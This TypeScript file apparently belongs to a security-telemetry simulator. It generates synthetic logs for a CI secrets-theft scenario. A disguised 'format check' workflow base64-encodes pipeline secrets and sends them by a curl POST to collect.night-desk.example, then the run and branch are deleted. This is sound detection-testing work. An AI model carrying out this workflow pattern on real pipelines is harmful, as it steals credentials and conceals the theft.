/** A workflow that prints every secret is pushed to a branch, runs on the company's runner, and the branch is deleted again. */
import { SECOND } from "../clock.ts";
import { session, startProcess } from "../sensors/endpoint.ts";
import { overTls } from "../sensors/network.ts";
import {
  githubAudit,
  githubHook,
  githubPushHook,
  hookRepository,
  organisationOf,
  personAtGithub,
  sender,
} from "../sensors/repository.ts";
import { server } from "../servers.ts";
import { at, castPerson, hostsOf, privateRepositories } from "../world.ts";
import type { Host } from "../company.ts";
import type { Story } from "./index.ts";

export const workflowExfiltration: Story = {
  id: "workflow-exfiltration",
  title: "Workflow added that sends the pipeline's secrets away",
  behaviours: ["workflow-exfiltration"],
  shows: { audit: ["workflow-exfiltration"] },
  demoDay: null,
  days: 1,
  tell(world, day, random) {
    const person = castPerson(world, random, (candidate) => candidate.team === "engineering");
    const repository = random.pick(privateRepositories(world));
    const actor = personAtGithub(world, person, person.workstation, "git/2.47.1");
    const runner = random.pick(hostsOf(world, "ci-")) as Host;
    const branch = `refs/heads/chore/format-${random.hex(6)}`;
    const file = ".github/workflows/format-check.yml";
    const time = at(world, day, 14.7);
    githubAudit(world, {
      time,
      action: "git.push",
      actor,
      repository,
      more: { transport_protocol: 1, transport_protocol_name: "http" },
      random,
    });
    githubPushHook(world, {
      time: time + 400,
      actor,
      repository,
      ref: branch,
      message: "chore: add format check",
      added: [file],
      modified: [],
      created: true,
      random,
    });
    const run = {
      workflow_id: 40_000_000 + random.int(0, 9_999),
      workflow_run_id: 12_900_000_000 + random.int(0, 999_999),
      name: "Format check",
      head_branch: branch.slice(11),
      event: "push",
      run_attempt: 1,
    };
    githubAudit(world, {
      time: time + 4 * SECOND,
      action: "workflows.created_workflow_run",
      actor,
      repository,
      more: run,
      random,
    });
    githubAudit(world, {
      time: time + 9 * SECOND,
      action: "workflows.prepared_workflow_job",
      actor,
      repository,
      more: {
        ...run,
        job_name: "format",
        runner_name: runner.name,
        secrets_passed: ["NPM_TOKEN", "DEPLOY_KEY", "AWS_ROLE", "SIGNING_KEY"],
      },
      random,
    });
    const worker = session(runner, world.company.services.ci.account, random, "/opt/actions-runner/bin/Runner.Worker");
    const shell = startProcess(world, {
      time: time + 13 * SECOND,
      parent: worker,
      image: "/usr/bin/bash",
      argv: ["bash", "-e", `/opt/actions-runner/_work/_temp/${random.uuid()}.sh`],
      random,
    });
    startProcess(world, {
      time: time + 13_300,
      parent: shell,
      image: "/usr/bin/base64",
      argv: ["base64", "-w0"],
      random,
    });
    const curl = startProcess(world, {
      time: time + 13_500,
      parent: shell,
      image: "/usr/bin/curl",
      argv: ["curl", "-s", "-X", "POST", "--data-binary", "@-", "https://collect.night-desk.example/in"],
      random,
    });
    const sent = random.int(6_000, 18_000);
    overTls(world, {
      time: time + 13_600,
      host: runner,
      user: null,
      process: curl,
      server: server("collect.night-desk.example"),
      requests: [{ method: "POST", path: "/in", sent, received: 20, type: "text/plain" }],
      userAgent: "curl/8.12.1",
      random,
    });
    githubAudit(world, {
      time: time + 22 * SECOND,
      action: "workflows.completed_workflow_run",
      actor,
      repository,
      more: { ...run, conclusion: "success" },
      random,
    });
    githubAudit(world, {
      time: time + 40 * SECOND,
      action: "workflows.delete_workflow_run",
      actor,
      repository,
      more: run,
      random,
    });
    githubHook(world, time + 44 * SECOND, "delete", random, {
      ref: branch.slice(11),
      ref_type: "branch",
      pusher_type: "user",
      repository: hookRepository(world, repository, time),
      organization: organisationOf(world),
      sender: sender(person.github),
    });
    return {
      actor: [person.email, person.github.login],
      hosts: [runner.name],
      addresses: [actor.ip, runner.ip],
      destinations: [`github.com/${world.company.profile.slug}/${repository.name}`],
      bytesOut: sent,
    };
  },
};
